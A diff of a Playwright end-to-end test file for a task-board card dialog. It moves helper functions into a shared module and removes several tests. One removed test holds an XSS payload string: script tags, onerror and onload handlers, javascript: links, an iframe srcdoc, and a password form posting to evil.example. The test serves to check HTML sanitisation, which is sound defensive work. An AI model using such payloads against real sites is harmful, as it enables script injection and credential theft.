@@ -1,42 +1,13 @@
-import type { Locator, Page } from "playwright-core";
+import type { Page } from "playwright-core";
 import { expect, test } from "vitest";
-import { createClient } from "workspace-engine/client";
 import { graveFaults } from "../browser/accessibility";
 import { useBrowser } from "../browser/use-browser";
-import { liveMark, type Screen } from "../cli/board-page";
 import { useBoardServer } from "../cli/use-board-server";
+import { box, dialog, field, press, region, withCard } from "./card-page";
 
 const { serve } = useBoardServer();
 const browser = useBrowser();
 const timeout = { timeout: 150_000 };
-
-/** A server with a board, of which the first two cards count, and windows of the first one. */
-async function withCard() {
-  const { url, token } = await serve();
-  const client = createClient({ baseUrl: `${url}/v1`, token, teamId: "my-team" });
-  const [board] = (await client.getBoards({ archived: false })).boards;
-  const { cards } = await client.getCards({ board_id: board?.id ?? "", archived: false });
-  const [{ id } = { id: "" }, other = { id: "", title: "" }] = cards;
-  const none = { members: [], tags: [], owner_id: null, priority: 0, estimate: 0, due_date: 0, epic_id: null };
-  await client.updateCard({ card_id: id, title: "Book the hall", content: "", parent_card_id: null, ...none });
-  const card = async () => (await client.getCard({ card_id: id })).card;
-  const open = async ({ width, height, ...media }: Screen = { width: 1280, height: 800 }): Promise<Page> => {
-    const page = await browser.newPage();
-    await page.setViewportSize({ width, height });
-    await page.emulateMedia(media);
-    await page.goto(`${url}/?board=${board?.id}&card=${id}#token=${token}`);
-    await liveMark(page, "live").waitFor();
-    await dialog(page).waitFor();
-    return page;
-  };
-  return { client, id, other, card, open };
-}
-
-const dialog = (page: Page): Locator => page.getByRole("dialog", { name: /^Card/ });
-const field = (page: Page, name: string): Locator => page.getByRole("button", { name: new RegExp(`^${name}\\b`) });
-const box = (page: Page, name: string): Locator => page.getByRole("textbox", { name, exact: true });
-const region = (page: Page, name: string): Locator => page.getByRole("region", { name, exact: true });
-const press = (page: Page, name: string): Promise<void> => page.getByRole("button", { name, exact: true }).click();
 
 /** Holds back everything that the page writes. */
 const slowly = (page: Page): Promise<unknown> =>
@@ -63,7 +34,7 @@ async function shownAfter(page: Page, act: () => Promise<void>, isShown: string)
 }
 
 test("[W11.16] each field is chosen, shown in other windows, and cleared", timeout, async () => {
-  const { client, other, card, open } = await withCard();
+  const { client, other, card, open } = await withCard(browser, await serve());
   const [member] = (await client.getMembers()).members;
   const epic = (await client.createEpic({ title: "The move" })).epic;
   const [page, second] = [await open(), await open()];
@@ -107,7 +78,7 @@ test("[W11.16] each field is chosen, shown in other windows, and cleared", timeo
 });
 
 test("[W11.16] cards are linked both ways, and lead to each other", timeout, async () => {
-  const { client, other, card, open } = await withCard();
+  const { client, other, card, open } = await withCard(browser, await serve());
   const page = await open();
   await field(page, "Blocks").click();
   await page.getByRole("textbox", { name: "Find blocks" }).fill(other.title);
@@ -128,85 +99,8 @@ test("[W11.16] cards are linked both ways, and lead to each other", timeout, asy
   expect(there.linked_cards.map((link) => link.linked_card_type)).toContain("blocked_by");
 });
 
-test("[W11.16] the description is written with its form, and comes back as imports make it", timeout, async () => {
-  const { client, id, card, open } = await withCard();
-  const page = await open();
-  await page.getByRole("button", { name: "Say more about it… Edit description" }).click();
-  await box(page, "Description").waitFor();
-  await page.keyboard.type("## A heading");
-  await page.keyboard.press("Enter");
-  await page.keyboard.type("- One");
-  await page.keyboard.press("Enter");
-  await page.keyboard.type("Two ");
-  await press(page, "Bold");
-  await page.keyboard.type("bold");
-  await page.keyboard.press("Control+Enter");
-  const written = "<h2>A heading</h2><ul><li>One</li><li>Two <strong>bold</strong></li></ul>";
-  await expect.poll(async () => (await card()).content).toBe(written);
-  // Nothing that an import made is lost or put otherwise by a change elsewhere in it.
-  const imported =
-    '<p>A <a href="https://example.com">link</a>,<br>a <s>gone</s> word</p><ol><li>One<ul><li>In it</li></ul></li></ol>' +
-    "<pre><code>1 &lt; 2</code></pre><table><tbody><tr><th>Head</th></tr><tr><td>Cell</td></tr></tbody></table><hr>";
-  await client.updateCard({ card_id: id, content: imported });
-  await page.getByText("Cell").waitFor();
-  await press(page, "Edit description");
-  await box(page, "Description").waitFor();
-  await page.keyboard.type("Now a");
-  await page.keyboard.press("Delete");
-  await page.keyboard.press("Control+Enter");
-  await expect.poll(async () => (await card()).content).toBe(imported.replace("<p>A ", "<p>Now a "));
-});
-
-test("[W11.16] nothing that is unsafe in a description is shown or run", timeout, async () => {
-  const { client, id, open } = await withCard();
-  const payload =
-    '<p>Harmless</p><img src="x" onerror="window.hacked = 1"><script>window.hacked = 2</script><svg onload="window.hacked = 3">' +
-    '<a xlink:href="javascript:window.hacked=4">s</a></svg><a href="java\nscript:window.hacked = 5">link</a>' +
-    '<iframe srcdoc="<script>parent.hacked = 6</script>"></iframe><p style="position:fixed" onclick="window.hacked = 7">p</p>' +
-    '<form action="https://evil.example"><input name="password"><button>Send</button></form><style>* { display: none }</style>';
-  await client.updateCard({ card_id: id, content: payload });
-  await client.createComment({ card_id: id, content: payload });
-  const page = await open();
-  // Parsed without effect, and told of all the same.
-  browser.expectErrors(/inline style violates/);
-  await page.getByText("Harmless").nth(1).waitFor();
-  const risky =
-    ".rich-text :is(script, style, iframe, svg, img[src], form, input, [onclick], [style], a:not([href^=http]))";
-  expect(await page.locator(risky).count()).toBe(0);
-  await press(page, "Edit description");
-  await box(page, "Description").waitFor();
-  await page.keyboard.type("Still ");
-  expect(await page.locator(risky).count()).toBe(0);
-  for (const text of await page.getByText("p", { exact: true }).all()) await text.click();
-  expect(await page.evaluate("window.hacked")).toBeUndefined();
-});
-
-test("[W11.30] a description that is refused stays in its editor beside the other one", timeout, async () => {
-  const { client, id, card, open } = await withCard();
-  browser.expectErrors(/409/);
-  const page = await open();
-  await page.route(
-    `**/cards/${id}`,
-    async (route) => {
-      if (route.request().method() === "PATCH") await client.updateCard({ card_id: id, content: "<p>Theirs</p>" });
-      await route.continue();
-    },
-    { times: 1 },
-  );
-  await page.getByRole("button", { name: /Edit description/ }).click();
-  await box(page, "Description").fill("Mine");
-  await page.keyboard.press("Control+Enter");
-  const versions = region(page, "Description: two versions");
-  await versions.getByText("Theirs", { exact: true }).waitFor();
-  expect(await box(page, "Description").textContent()).toBe("Mine");
-  expect((await card()).content).toBe("<p>Theirs</p>");
-  await press(page, "Keep mine");
-  await expect.poll(async () => (await card()).content).toBe("<p>Mine</p>");
-  await page.getByText("Theirs", { exact: true }).waitFor();
-});
-
 test("[W11.16] with 800 ms of latency all is shown within 50 ms, and in another window later", timeout, async () => {
-  const { card, open } = await withCard();
+  const { card, open } = await withCard(browser, await serve());
   const [page, second] = [await open(), await open()];
   await slowly(page);
   const items = (name: string) => `document.querySelectorAll("section[aria-label='${name}'] li.item").length`;
@@ -245,7 +139,7 @@ test("[W11.16] with 800 ms of latency all is shown within 50 ms, and in another 
 });
 
 test("[W11.30] what is refused is taken back, and what was typed for it is in its box again", timeout, async () => {
-  const { card, open } = await withCard();
+  const { card, open } = await withCard(browser, await serve());
   const page = await open();
   browser.expectErrors(/403/);
   const error = { id: "1", code: 403, status: 403, sec: "SEC:000-00004", message: "Ada keeps it as it is.", date: 0 };
@@ -278,7 +172,7 @@ test("[W11.30] what is refused is taken back, and what was typed for it is in it
 });
 
 test("[W11.16] items are renamed and moved, and comments are answered and changed", timeout, async () => {
-  const { client, id, card, open } = await withCard();
+  const { client, id, card, open } = await withCard(browser, await serve());
   await client.createChecklist({ card_id: id, title: "Before", items: [{ title: "Chairs" }, { title: "Tables" }] });
   await client.createComment({ card_id: id, content: "<p>Who has the <b>key</b>?</p>" });
   const page = await open();
@@ -311,7 +205,7 @@ test.for([
   ["390", "light"],
   ["390", "dark"],
 ] as const)("[W11.16] axe finds nothing in a full card at %s pixels, %s", timeout, async ([width, colorScheme]) => {
-  const { client, id, open } = await withCard();
+  const { client, id, open } = await withCard(browser, await serve());
   await client.createChecklist({ card_id: id, title: "Before", items: [{ title: "Chairs", checked: true }] });
   await client.createComment({ card_id: id, content: "<p>Who has the key?</p>" });
   await client.updateCard({
